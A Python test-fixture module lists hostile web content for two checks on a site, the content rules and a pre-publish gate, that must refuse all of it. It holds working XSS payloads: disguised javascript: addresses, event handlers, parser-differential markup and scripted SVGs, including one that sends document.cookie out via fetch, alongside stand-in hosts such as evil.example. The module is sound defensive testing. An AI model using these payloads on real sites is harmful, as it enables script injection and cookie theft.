"""Hostile contributions, listed once for both walls.

tests/site/test_hostile_content.py runs them through the content rules,
tests/site/test_gate_hostile.py through the pre-publish gate, each with what that wall says of
them; tests/site/test_policy.py runs every one through both walls, since each wall must stop
them all on its own.
"""

from __future__ import annotations

SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
SCRIPTED_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">\n'
    '  <rect width="10" height="10"/>\n'
    "  <script>fetch('/steal?'+document.cookie)</script>\n"
    "</svg>\n"
)

# --- In an article (HTML as a browser gets it, or Markdown as the build renders it) ------

# Addresses a browser reads as script, a document or a file, however they are disguised.
DISGUISED_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " \x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "&#106avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
]

MARKDOWN_LINKS = [
    "[Offer](javascript:alert(1))",
    "[Offer](JAVASCRIPT:alert(1))",
    "[Offer](&#106;avascript:alert(1))",
    "[Offer][x]\n\n[x]: javascript:alert(1)",
    "![Chart](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[Offer](<java script:alert(1)>)",
]

# Raw HTML that runs, redirects or restyles, with what the content rules say of it.
RAW_HTML = [
    ('<p onmouseover="steal()">Hover</p>', "inline event handler 'onmouseover='"),
    ("<img src=x alt=x OnError=steal()>", "inline event handler 'onerror='"),
    ("<!--> <img src=x alt=x onerror=steal()> -->", "inline event handler 'onerror='"),
    ("<p/onclick=steal()>x</p>", "inline event handler 'onclick='"),
    ('[Offer](/contact/){: onclick="steal()" }', "inline event handler 'onclick='"),
    ("<body onload=steal()>", "inline event handler 'onload='"),
    ('<p style="color:red">Red</p>', "style attribute on <p>"),
    ('<form action="https://collect.example"><input name=dob></form>', "<form> is not allowed"),
    ('<base href="https://elsewhere.example/">', "<base> is not allowed"),
    ('<meta http-equiv="refresh" content="0;url=https://x.example">', "<meta> is not allowed"),
    ("<svg><a><text>Tap</text></a></svg>", "<svg> is not allowed"),
    (
        "<noscript><p title='</noscript><img src=x onerror=steal()>'></p></noscript>",
        "<noscript>",
    ),
    ("<style>body{display:none}</style>", "<style> is not allowed"),
    ("<button formaction=javascript:steal()>Go</button>", "<button> is not allowed"),
]

# Script addresses and embeds the gate finds in a built page.
SCRIPT_LINKS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;ava&#x09;Script&colon;alert(1)">x</a>',
    '<a href=" \x01JAVA\nSCRIPT:alert(1)">x</a>',
    '<iframe src="data:text/html,<script>alert(1)</script>" title="x"></iframe>',
    '<img srcset="/images/logo.png 1x, vbscript:msgbox 2x" src="/images/logo.png" alt="">',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<a href="javascript:alert(1)" href="https://example.org/">the first one counts</a>',
    '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">',
    '<a href="http://[::1">unparsable</a>',
    # Where the two walls' copies of the policy had drifted apart:
    # a srcset candidate ended by its comma, after which the content rules' parser skipped
    # the next candidate as if it were a descriptor;
    '<img srcset="/images/logo.png, javascript:alert(1) 2x" alt="Logo">',
    # `icon`, an address attribute that only the content rules knew.
    '<menuitem icon="javascript:alert(1)">Menu</menuitem>',
]

# Markup a simpler parser reads differently from a browser, with what the gate says of it.
HIDDEN_MARKUP = [
    # Python's HTML parser reads a comment up to the next `-->`; a browser ends it at `<!-->`.
    ("<!--> <img src=/images/logo.png alt='' onerror=alert(1)> -->", "<img onerror>"),
    # A declarative shadow root: the template's content becomes live in the page.
    ("<template shadowrootmode=open><img src=x onerror=alert(1)></template>", "<template>"),
    # With scripts on, a browser reads <noscript> as text, and the attribute's markup lives.
    (
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></p></noscript>",
        "holds markup",
    ),
    ("<p/onclick=alert(1)>slash</p>", "<p onclick>"),
]

SCRIPTS = [
    "<script>alert(1)</script>",
    '<script type="module">import("/x")</script>',
    '<script src="/robots.txt"></script>',  # same origin, but not a script folder
    '<script type="application/ld+json" src="/robots.txt"></script>',
]

# Every hostile article body above: each wall must refuse every one.
ARTICLE_BODIES = [
    *(f'<a href="{address}">Offer</a>' for address in DISGUISED_ADDRESSES),
    *MARKDOWN_LINKS,
    *(snippet for snippet, _ in RAW_HTML),
    *SCRIPT_LINKS,
    *(snippet for snippet, _ in HIDDEN_MARKUP),
    *SCRIPTS,
]

# Refused in an article, and rightly passed by the gate in a built page, where they do no harm.
HARMLESS_IN_A_PAGE = {
    # A browser reads `java script:alert(1)` as a relative path; the content rules refuse
    # it as a link to a page that does not exist.
    "[Offer](<java script:alert(1)>)",
    # Drawing belongs in an .svg file (the content rules), but the theme draws its icons
    # with inline SVG, and a link without an address goes nowhere.
    "<svg><a><text>Tap</text></a></svg>",
}

# Addresses an article may link to, which neither wall may refuse.
ORDINARY_ADDRESSES = [
    "https://www.aad.org/",
    "http://example.org/x?a=1&b=2",
    "mailto:care@example.org",
    "tel:+1-480-555-0100",
    "#top",
    "/contact/",
]


def is_markdown(body: str) -> bool:
    """A body that is not HTML, which the build renders before a browser gets it."""
    return not body.lstrip().startswith("<")


# --- SVG files ---------------------------------------------------------------------------

# SVG that runs or loads something, with what the content rules say of it.
CONTENT_SVGS = [
    (SCRIPTED_SVG, "has a <script> element"),
    ('<svg xmlns="http://www.w3.org/2000/svg" onload="steal()"/>', "event handler (onload=)"),
    (
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p xmlns='
        '"http://www.w3.org/1999/xhtml">x</p></foreignObject></svg>',
        "<foreignobject>",
    ),
    (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">'
        '<a x:href="javascript:steal()"><text>t</text></a></svg>',
        "links to 'javascript:steal()'",
    ),
    (
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://track.example/p.png"/></svg>',
        "links to 'https://track.example/p.png'",
    ),
    (
        '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://x.example/a.css);'
        "</style></svg>",
        "@import",
    ),
    (
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
        '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
        "declares an XML entity",
    ),
    # Where the two walls' copies of the policy had drifted apart, each of these got past
    # the content rules: a CSS escape (`\72` is `r`), a url() in a presentation attribute,
    # a quoted url() holding a `)`, HTML straight inside the picture, and elements that only
    # one wall's list held.
    (SVG_HEAD + '<rect style="fill: u\\72l(https://evil.example/p)"/></svg>', "evil.example"),
    (SVG_HEAD + '<rect filter="url(https://evil.example/f.svg#f)"/></svg>', "evil.example"),
    (SVG_HEAD + "<style>rect{fill:url('https://evil.example/a)b')}</style></svg>", "evil.example"),
    (
        SVG_HEAD + '<p xmlns="http://www.w3.org/1999/xhtml">x</p></svg>',
        "holds HTML (<p>) inside the picture",
    ),
    (SVG_HEAD + '<listener event="click" handler="#h"/></svg>', "has a <listener> element"),
    (SVG_HEAD + '<a><animateColor attributeName="href" to="x"/></a></svg>', "animates a link"),
]

GATE_SVGS = [
    SVG_HEAD + "<script>alert(1)</script></svg>",
    SVG_HEAD + '<rect width="1" height="1" onload="alert(1)"/></svg>',
    SVG_HEAD + "<foreignObject><p>x</p></foreignObject></svg>",
    SVG_HEAD + '<a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    SVG_HEAD + '<a href="https://evil.example/"><text>x</text></a></svg>',
    SVG_HEAD + '<a><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
    '<?xml-stylesheet type="text/xsl" href="x.xsl"?>' + SVG_HEAD + "</svg>",
    '<!DOCTYPE svg [<!ENTITY x "boom">]>' + SVG_HEAD + "<text>&x;</text></svg>",
    SVG_HEAD + '<style>@import "https://evil.example/x.css";</style></svg>',
    SVG_HEAD + '<rect style="fill: u\\72l(https://evil.example/p)"/></svg>',
    '<svg xmlns:x="urn:x" xmlns="http://www.w3.org/2000/svg"><x:script>1</x:script></svg>',
]

# Every hostile SVG above: each wall must refuse every one.
SVGS = [*(svg for svg, _ in CONTENT_SVGS), *GATE_SVGS]

# Drawing only, with links inside the picture: neither wall may refuse it.
ORDINARY_SVG = (
    SVG_HEAD + '<defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs>'
    '<rect id="r" width="4" height="4" fill="url(#g)" style="stroke: url(#g)"/>'
    '<use href="#r" x="5"/><use xlink:href="#r" y="5"/>'
    "<style>rect { fill: url('#g') }</style></svg>"
)
